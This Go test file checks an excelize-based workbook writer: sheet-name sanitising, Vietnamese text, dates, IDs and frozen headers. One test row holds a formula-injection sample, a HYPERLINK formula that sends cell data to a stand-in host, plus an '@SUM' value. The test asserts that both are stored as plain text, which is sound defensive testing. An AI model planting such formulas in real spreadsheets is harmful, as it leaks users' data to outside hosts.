package workbook

import (
	"bytes"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

func TestWorkbookRoundTrip(t *testing.T) {
	hcm := time.FixedZone("ICT", 7*3600)
	w := New()
	defer w.Close()
	if err := w.Sheet("Cảnh báo × đơn vị", Column{Title: "Số"}, Column{Title: "Tiêu đề"}, Column{Title: "Mã nhóm"},
		Column{Title: "Lúc"}); err != nil {
		t.Fatal(err)
	}
	rows := [][]any{
		{uint64(12), `=HYPERLINK("http://x/?"&A2,"chi tiết")`, ID(-1001234567890), time.Date(2026, 11, 26, 9, 15, 0, 0, hcm)},
		{uint64(13), "a\tb\x00c\r\nd", ID(-42), time.Time{}},
		{uint64(14), "@SUM(A1:A9)", nil, nil},
	}
	for _, r := range rows {
		if err := w.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Sheet("Nhật ký: [quản trị]/2026", Column{Title: "x"}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := w.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}

	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, want := f.GetSheetList(), []string{"Cảnh báo × đơn vị", "Nhật ký   quản trị  2026"}; len(got) != 2 || got[0] != want[0] || got[1] != want[1] {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	sheet := "Cảnh báo × đơn vị"
	want := map[string]string{
		"A1": "Số", "B1": "Tiêu đề", "A2": "12",
		"B2": `=HYPERLINK("http://x/?"&A2,"chi tiết")`, "C2": "-1001234567890", "D2": "26/11/2026 09:15",
		"B3": "a bc\nd", "D3": "", "B4": "@SUM(A1:A9)", "C4": "",
	}
	for cell, w := range want {
		got, err := f.GetCellValue(sheet, cell)
		if err != nil || got != w {
			t.Errorf("%s = %q (%v), want %q", cell, got, err, w)
		}
	}
	// Text that looks like a formula is text, not a formula.
	for _, cell := range []string{"B2", "B4"} {
		if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
			t.Errorf("%s has formula %q", cell, fm)
		}
		if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
			t.Errorf("%s type = %v, want inline string", cell, typ)
		}
	}
	// The id is a number shown in full; the date a real date.
	if typ, _ := f.GetCellType(sheet, "C2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("C2 type = %v, want number", typ)
	}
	raw, _ := f.GetCellValue(sheet, "D2", excelize.Options{RawCellValue: true})
	if raw != "46352.385416666664" && raw[:5] != "46352" {
		t.Errorf("D2 raw = %q, want an Excel date serial", raw)
	}
	if f.GetActiveSheetIndex() != 0 {
		t.Errorf("active sheet %d, want the first", f.GetActiveSheetIndex())
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("header row not frozen: %+v %v", panes, err)
	}
}

func TestSheetName(t *testing.T) {
	tests := map[string]string{
		"Đơn vị":          "Đơn vị",
		"a:b/c\\d?e*f[g]": "a b c d e f g",
		"":                "Sheet",
		"Một tên rất dài vượt quá ba mươi mốt ký tự": "Một tên rất dài vượt quá ba mươ",
	}
	for in, want := range tests {
		if got := SheetName(in); got != want {
			t.Errorf("SheetName(%q) = %q, want %q", in, got, want)
		}
	}
}
